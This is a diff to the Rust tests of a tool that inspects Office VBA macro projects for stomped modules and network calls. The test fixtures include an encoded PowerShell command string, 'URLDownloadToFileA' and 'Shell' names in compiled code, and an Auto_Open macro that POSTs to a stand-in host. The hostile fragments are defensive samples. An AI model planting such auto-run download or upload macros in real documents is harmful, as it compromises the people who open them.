@@ -33,7 +33,7 @@ const TRUTH: &[(&str, Verdict, &[&str])] = &[
     ("made/vbaProject05.bin", Verdict::RunsHarmless, &[]),
     ("oletools/autostart-encrypt-standardpassword.xls", Verdict::RunsHarmless, &[]),
     ("openxmlsdk/macro.xlsm", Verdict::RunsHarmless, &[]),
-    ("poi/15228.xls", Verdict::Suspicious, &["loads-xml", "saves-workbook", "xml-document"]),
+    ("poi/15228.xls", Verdict::Suspicious, &["address", "loads-xml", "saves-workbook", "xml-document"]),
     ("poi/45761.xls", Verdict::NothingRuns, &[]),
     ("poi/53446.xls", Verdict::RunsHarmless, &[]),
     ("poi/57181.xlsm", Verdict::RunsHarmless, &[]),
@@ -107,6 +107,7 @@ fn a_source_that_is_not_what_was_compiled_is_seen_in_every_office_made_project()
                         place: String::new(),
                         naming: Naming::Named,
                         extra: Vec::new(),
+                        cache: Vec::new(),
                         project: Ok(project),
                     };
                     let known = Knowledge::built_in().unwrap();
@@ -160,6 +161,29 @@ fn a_stomped_module_is_suspicious_in_a_bare_project_and_in_a_package() {
 }
 
 #[test]
+fn what_the_compiled_code_of_a_stomped_module_names_is_told() {
+    let Some(folder) = corpus() else { return };
+    let bytes = std::fs::read(folder.join("poi/SimpleMacro.xlsm")).unwrap();
+    let judged = |text: &[u8; 24], cache: &[u8]| {
+        let mut found = projects(&bytes).remove(0);
+        found.cache = cache.to_vec();
+        let project = found.project.as_mut().unwrap();
+        let module = project.modules.iter_mut().find(|m| m.name == "Module1").unwrap();
+        let at = module.bytes.windows(24).position(|w| w == b"This is a macro workbook").unwrap();
+        module.bytes[at..at + 24].copy_from_slice(text);
+        let projects = [workbook::inspect::analyse(Knowledge::built_in().unwrap(), &found, &[], false, &[])];
+        judge(Subject { name: None, survey: None, projects: &projects, named: 1, troubles: &[] })
+    };
+    let same = judged(b"This is a macro workbook", b"\x03Shell\x00");
+    assert_eq!(same.verdict, Verdict::RunsHarmless);
+    let text = judged(b"powershell -enc aaaaaaaa", b"\x05Range\x00");
+    assert_eq!((text.verdict, text.reasons[0].code), (Verdict::Suspicious, "source-differs"));
+    assert_eq!((&*text.reasons[0].args["line"], &*text.reasons[0].args["words"]), ("8", "powershell -enc aaaaaaaa"));
+    let named = judged(b"something else entirely!", b"\x05URLDownloadToFileA\x00\x00Shell\x10");
+    assert_eq!((named.verdict, &*named.reasons[0].args["words"]), (Verdict::Dangerous, "shell, urldownloadtofilea"));
+}
+
+#[test]
 fn what_is_odd_about_a_project_is_said() {
     let Some(folder) = corpus() else { return };
     let bytes = std::fs::read(folder.join("xlsxwriter/vbaProject01.bin")).unwrap();
@@ -200,6 +224,14 @@ fn what_is_odd_about_a_project_is_said() {
     assert_eq!((found.verdict, found.unread[0].code), (Verdict::Suspicious, "malformed"));
     let name = judged(&[("Module1", Kind::Standard, "Attribute VB_Name = \"Module1\"\nSub A()\nEnd Sub")]);
     assert_eq!(name.verdict, Verdict::RunsHarmless);
+}
+
+#[test]
+fn an_address_is_told_with_what_speaks_to_it() {
+    let source = "Sub Auto_Open()\n u = \"http://a.example/up\"\n Set x = CreateObject(\"MSXML2.XMLHTTP\")\n x.Open \"POST\", u\nEnd Sub";
+    let found = judged(&[("M", Kind::Standard, source)]);
+    let reveal = &found.reveals[0];
+    assert_eq!((reveal.code.as_str(), reveal.target.as_str()), ("network-address", "http://a.example/up"));
 }
 
 fn surveyed(change: impl FnOnce(&mut Survey)) -> Inspection {
@@ -346,7 +378,7 @@ fn the_same_file_gives_the_same_bytes() {
     let value: serde_json::Value = serde_json::from_str(&json()).unwrap();
     assert_eq!((value["verdict"].as_str(), value["exit"].as_u64()), (Some("suspicious"), Some(1)));
     assert_eq!(value["modules"][15]["autoexec"][0]["procedure"], "auto_open");
-    assert_eq!(value["modules"][15]["calls"][1]["code"], "loads-xml");
+    assert_eq!(value["modules"][15]["calls"][2]["code"], "loads-xml");
 }
 
 #[test]
